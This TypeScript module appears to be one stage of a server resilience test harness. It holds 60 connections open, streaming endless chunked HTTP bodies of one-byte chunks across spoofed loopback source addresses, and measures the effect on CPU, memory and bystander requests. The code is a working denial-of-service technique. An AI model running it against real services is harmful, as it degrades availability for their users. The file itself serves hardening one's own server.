// Sends bodies of one-byte chunks. Each chunk costs few bytes on the wire, but hundreds of bytes of memory and some microseconds.

import { connect, type Socket } from 'node:net'
import type { AttackOptions, AttackReport } from '../attack-stage/attack.ts'
import { quietRow, watchBystander } from '../attack-stage/bystander.ts'
import { memoryRows } from '../attack-stage/unread.ts'

export const about = 'sixty bodies of 262,000 one-byte chunks that do not end, and GETs with such bodies all the while'

const HELD = 60
const GETS = 4
const CHUNKS = Buffer.from('1\r\n1\r\n'.repeat(262_000))
const headOf = (line: string) =>
  `${line} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`

interface Tally {
  connections: number
  isOver: boolean
  readonly open: Set<Socket>
}

export async function run({ url, bystanderKey: key, seconds, memory, cpu }: AttackOptions): Promise<AttackReport> {
  const quiet = await watchBystander({ url, key, seconds: seconds / 2 })
  const [before, cpuBefore] = [memory(), cpu()]
  const tally: Tally = { connections: 0, isOver: false, open: new Set() }
  const sending = Array.from({ length: HELD }, (_, at) => send(url, tally, { line: 'POST /v1/devices/token', at }))
  const gets = Array.from({ length: GETS }, (_, at) => sendOn(url, tally, { line: 'GET /nope', at: HELD + at }))
  const noticed = await watchBystander({ url, key, seconds })
  const after = memory()
  tally.isOver = true
  for (const socket of tally.open) socket.destroy()
  await Promise.all([...sending, ...gets])
  return {
    ...quietRow(quiet),
    ...noticed,
    'connections made': tally.connections,
    'ms of CPU for each second': Math.round((cpu() - cpuBefore) / seconds),
    ...memoryRows(before, after),
  }
}

interface Sent {
  readonly line: string
  /** The number of the attacker. Six share an address. */
  readonly at: number
}

async function sendOn(url: string, tally: Tally, sent: Sent): Promise<void> {
  while (!tally.isOver) await send(url, tally, sent)
}

/** Sends until either side closes the connection. */
function send(url: string, tally: Tally, { line, at }: Sent): Promise<void> {
  const { hostname, port } = new URL(url)
  const socket = connect({ host: hostname, port: Number(port), localAddress: `127.0.5.${1 + Math.floor(at / 6)}` })
  tally.open.add(socket)
  // If the connection closes, its part of the attack ends. That is a result, not a failure.
  socket.on('error', () => undefined).resume()
  socket.once('connect', () => {
    tally.connections += 1
  })
  socket.write(headOf(line))
  socket.write(CHUNKS)
  return new Promise((resolve) => {
    socket.once('close', () => {
      tally.open.delete(socket)
      resolve()
    })
  })
}
